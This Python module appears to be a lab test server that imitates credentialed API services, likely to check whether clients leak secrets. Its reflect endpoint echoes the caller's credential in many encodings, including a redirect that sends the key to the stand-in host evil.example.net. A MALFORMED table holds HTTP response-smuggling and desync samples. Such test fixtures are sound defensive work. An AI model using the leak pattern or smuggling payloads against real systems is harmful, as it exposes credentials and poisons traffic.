"""provider.py: what services with credentials do, honestly and not; a part of servers.py, on every address and name.

A credential is good where it holds REAL, or is the access token that /oauth/token gave last. Every request with its headers is a line
in SEEN already; here come lines for what only the service knows: "oauth" (a renewal), "sink" (an upload), "gone" (a client that left)."""
import base64, gzip, hashlib, json, threading, time, urllib.parse, zlib

lock = threading.Lock()
rotation = {}  # account: number of the tokens that are good now

def credential(h):
    """The secret alone, from wherever it stands."""
    for name in ("x-api-key", "private-token", "authorization"):
        value = h.headers.get(name)
        if value is None: continue
        kind, _, rest = value.partition(" ")
        if kind.lower() == "basic":
            try: return base64.b64decode(rest).decode("latin-1").partition(":")[2]
            except ValueError: return ""
        return rest if kind.lower() in ("bearer", "token") else value
    return ""

def good(secret):
    if secret.startswith("at-REAL-"):
        account, _, number = secret[8:].rpartition("-")
        with lock: return number == str(rotation.get(account, 0))
    return "REAL" in secret

def chunks(h, parts, headers=(), trailers=(), pause=0.0):
    h.send_response(200)
    for name, value in headers: h.send_header(name, value)
    h.send_header("Transfer-Encoding", "chunked"); h.end_headers()
    for part in parts:
        h.wfile.write(b"%x\r\n%s\r\n" % (len(part), part)); h.wfile.flush()
        if pause: time.sleep(pause)
    h.wfile.write(b"0\r\n" + b"".join(f"{n}: {v}\r\n".encode() for n, v in trailers) + b"\r\n")

def pieces(h):
    """The request's body as it comes."""
    if h.headers.get("Transfer-Encoding", "").lower() == "chunked":
        while n := int(h.rfile.readline().split(b";")[0], 16):
            while n > 0:
                part = h.rfile.read(min(n, 1 << 16))
                if not part: raise ConnectionError("cut off")
                n -= len(part); yield part
            h.rfile.readline()
        while h.rfile.readline() not in (b"\r\n", b""): pass
        return
    n = int(h.headers.get("Content-Length") or 0)
    while n > 0:
        part = h.rfile.read(min(n, 1 << 16))
        if not part: raise ConnectionError("cut off")
        n -= len(part); yield part

def renew(h, log, query):
    """RFC 6749 §6, form or JSON. Tokens rotate: at-REAL-ACCOUNT-N and rt-REAL-ACCOUNT-N; an old refresh token is refused."""
    body = b"".join(pieces(h)); kind = h.headers.get("Content-Type", "")
    asked = json.loads(body) if "json" in kind else {k: v[0] for k, v in urllib.parse.parse_qs(body.decode()).items()}
    account, _, number = asked.get("refresh_token", "")[8:].rpartition("-")
    time.sleep(float(query.get("delay", "0.5")))
    with lock:
        fits = asked.get("refresh_token") == f"rt-REAL-{account}-{rotation.get(account, 0)}" and asked.get("grant_type") == "refresh_token"
        if fits: rotation[account] = int(number) + 1
        now = rotation.get(account, 0)
    log(proto="oauth", account=account, number=number, ok=fits, client=asked.get("client_id"), format=kind)
    if not fits: return h.reply(b'{"error":"invalid_grant"}', 400, "application/json")
    answer = {"access_token": f"at-REAL-{account}-{now}", "refresh_token": f"rt-REAL-{account}-{now}", "token_type": "Bearer", "expires_in": int(query.get("expires", "3600"))}
    h.reply(json.dumps(answer).encode(), kind="application/json")

def reflect(h, how):
    """The credential comes back, in one of many dresses."""
    s = credential(h); b = s.encode("latin-1"); text = b"your key is <" + b + b">, remember it\n"
    if how == "plain": return h.reply(text)
    if how == "header": return h.reply(b"", headers=[("X-Your-Key", s), ("Set-Cookie", "key=" + s)])
    if how == "location": return h.reply(b"", 302, headers=[("Location", "https://evil.example.net/?key=" + s)])
    if how == "base64": return h.reply(b"\n".join(base64.b64encode(b"x" * n + b + b"y" * n) for n in range(3)) + b"\n")
    if how == "url64": return h.reply(b"\n".join(base64.urlsafe_b64encode(b"\xff" * n + b + b"\xfe" * n) for n in range(3)) + b"\n")
    if how == "percent": return h.reply(urllib.parse.quote("<" + s + ">", safe="").encode() + b"\n")
    if how == "chunks": return chunks(h, [text[n:n + 1] for n in range(len(text))])
    if how == "halves": at = text.index(b) + len(b) // 2; return chunks(h, [text[:at], text[at:]], pause=0.2)
    if how == "trailer": return chunks(h, [b"ok\n"], [("Trailer", "X-Your-Key")], [("X-Your-Key", s)])
    if how == "gzip": return h.reply(gzip.compress(text * 50), headers=[("Content-Encoding", "gzip")])
    if how == "deflate": return h.reply(zlib.compress(text * 50), headers=[("Content-Encoding", "deflate")])
    if how == "br": return h.reply(text, headers=[("Content-Encoding", "br")])
    if how == "sse": return chunks(h, [b"data: " + b + b"\n\n"] * 3, [("Content-Type", "text/event-stream")], pause=0.05)
    if how == "error": return h.reply(json.dumps({"error": {"message": "Incorrect API key provided: " + s}}).encode(), 401, "application/json")
    return h.reply(b"no such dress\n", 404)

MALFORMED = {
    "both": b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    "lengths": b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
    "surplus": b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhelloHTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\npoisoned",
    "garbage": b"\x16\x03\x01\x00\x00 this is no HTTP\r\n\r\n",
    "short": b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\nhello",
}

def serve(h, log):
    """Whether the path was one of these, and is answered."""
    path, _, text = h.path.partition("?"); query = dict(urllib.parse.parse_qsl(text))
    where = {"path": path, "host": h.headers.get("Host")}
    if path == "/oauth/token": renew(h, log, query); return True
    if path == "/sink":
        count, digest, whole = 0, hashlib.sha256(), True
        try:
            for part in pieces(h): count += len(part); digest.update(part)
        except (OSError, ValueError): whole = False
        log(proto="sink", bytes=count, whole=whole, **where)
        if whole: h.reply(json.dumps({"bytes": count, "sha256": digest.hexdigest()}).encode(), kind="application/json")
        else: h.close_connection = True
        return True
    if path == "/live":  # until the client leaves
        try: chunks(h, iter(lambda: b"data: still here\n\n", None), [("Content-Type", "text/event-stream")], pause=0.05)
        except OSError: log(proto="gone", **where); h.close_connection = True
        return True
    known = path.startswith(("/reflect/", "/sse/", "/malformed/", "/v1/", "/user", "/seen", "/need", "/trailers", "/redirect-to", "/oauth/api"))
    if not known: return False
    body = b"".join(pieces(h))
    def answer(value, code=200, headers=()): h.reply(json.dumps(value).encode(), code, "application/json", headers)
    if path.startswith("/reflect/"): reflect(h, path[9:])
    elif path == "/redirect-to": h.reply(b"moved\n", int(query.get("code", "302")), headers=[("Location", query["to"])])
    elif path == "/trailers": chunks(h, [b"hello ", b"again\n"], [("Trailer", "X-Sum")], [("X-Sum", hashlib.sha256(b"hello again\n").hexdigest())])
    elif path.startswith("/sse/"): chunks(h, (b"data: {\"n\": %d, \"t\": %f}\n\n" % (n, time.time()) for n in range(int(path[5:]))), [("Content-Type", "text/event-stream")], pause=float(query.get("pause", "0.3")))
    elif path.startswith("/malformed/"): h.wfile.write(MALFORMED[path[11:]]); h.close_connection = True
    elif path.startswith("/seen"): answer({"method": h.command, "target": h.target, "headers": [[k, v] for k, v in h.headers.items()], "body": hashlib.sha256(body).hexdigest(), "length": len(body)})
    elif not good(credential(h)): answer({"type": "error", "error": {"type": "authentication_error", "message": "invalid x-api-key"}}, 401, [("WWW-Authenticate", "Bearer")])
    elif path == "/v1/messages" and body and json.loads(body).get("stream"):
        chunks(h, [b"event: content_block_delta\ndata: {\"delta\":{\"text\":\"%s\"}}\n\n" % word for word in (b"hello", b"from", b"the", b"lab")], [("Content-Type", "text/event-stream")], pause=0.05)
    else: answer({"ok": True, "content": [{"type": "text", "text": "hello from the lab"}], "path": path})
    return True
